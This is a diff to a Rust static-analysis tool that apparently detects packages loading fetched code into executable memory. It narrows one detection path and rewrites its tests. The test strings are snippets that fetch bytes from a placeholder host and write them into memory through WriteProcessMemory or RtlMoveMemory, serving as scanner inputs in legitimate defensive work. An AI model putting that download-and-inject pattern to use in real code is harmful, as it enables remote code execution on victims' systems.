@@ -3,7 +3,6 @@
 
 use crate::flow::{Analysis, Context, Site, is_foreign};
 use crate::ir::{Binary, Expr, ExprId, Program};
-use crate::know;
 use crate::pure::{FileId, Value};
 use customs_model::{SinkKind, Target, Zone};
 use std::rc::Rc;
@@ -40,9 +39,8 @@ impl Analysis<'_> {
         }
     }
 
-    /// What is called on says whether a call puts its arguments into memory that is run: a
-    /// mapping by its protection, a function of a system's library by its declaration.
-    pub(super) fn may_be_memory(&mut self, path: &str, value: &Value) -> bool {
+    /// Whether a mapping that is written into may be run, by its protection.
+    pub(super) fn may_be_run(&mut self, value: &Value) -> bool {
         let Value::Native(native) = value else {
             return false;
         };
@@ -56,16 +54,8 @@ impl Analysis<'_> {
             return false;
         };
         let args = program.list(args).to_vec();
-        if path.starts_with("mmap.") {
-            let protection = protection(&program, &args);
-            return protection.is_some_and(|given| self.lets_run(&program, file, given, 0));
-        }
-        // `lib.func('bool WriteProcessMemory(void *, …)')`, `lib.func('WriteProcessMemory', …)`.
-        args.iter().any(|arg| {
-            let text = self.machine.fold(file, *arg);
-            text.known_text()
-                .is_some_and(|text| names_in(text).any(know::writes_memory))
-        })
+        let protection = protection(&program, &args);
+        protection.is_some_and(|given| self.lets_run(&program, file, given, 0))
     }
 
     fn lets_run(&mut self, program: &Program, file: FileId, given: ExprId, depth: u8) -> bool {
@@ -97,11 +87,6 @@ fn protection(program: &Program, args: &[ExprId]) -> Option<ExprId> {
             .copied()
             .filter(|arg| !matches!(program.expr(*arg), Expr::Keywords(_)))
     })
-}
-
-/// The names in a declaration.
-fn names_in(text: &str) -> impl Iterator<Item = &str> {
-    text.split(|c: char| !c.is_alphanumeric() && c != '_')
 }
 
 /// Whether a path is the memory of a process: `/proc/…/mem`.
@@ -143,19 +128,19 @@ mod tests {
     }
 
     #[test]
-    fn a_function_of_the_system_is_told_by_its_declaration() {
-        let code = |declaration: &str| {
+    fn a_function_of_the_system_is_told_by_its_name() {
+        let code = |name: &str| {
             format!(
-                "const f = require('koffi').load('kernel32.dll').func({declaration});\nfetch('https://c.invalid/').then((r) => r.arrayBuffer()).then((b) => f(1, Buffer.from(b), 9));\n"
+                "const k = require('ffi-napi').Library('kernel32', {{}});\nfetch('https://c.invalid/').then((r) => r.arrayBuffer()).then((b) => k.{name}(1, Buffer.from(b), 9));\n"
             )
         };
-        let writes = code("'void RtlMoveMemory(void *, void *, size_t)'");
-        assert!(runs_in_memory(script(&writes)));
-        let by_name = code("'WriteProcessMemory', 'bool', ['void *', 'void *', 'int']");
-        assert!(runs_in_memory(script(&by_name)));
-        assert!(!runs_in_memory(script(&code(
-            "'int puts(int, char *, int)'"
-        ))));
+        assert!(runs_in_memory(script(&code("WriteProcessMemory"))));
+        assert!(!runs_in_memory(script(&code("GetTickCount64"))));
+        let code = |name: &str| {
+            format!("import ctypes\n{FETCHED}ctypes.WinDLL('kernel32').{name}(1, c, len(c))\n")
+        };
+        assert!(runs_in_memory(wheel(&code("RtlMoveMemory"))));
+        assert!(!runs_in_memory(wheel(&code("SetConsoleTitleA"))));
     }
 
     #[test]
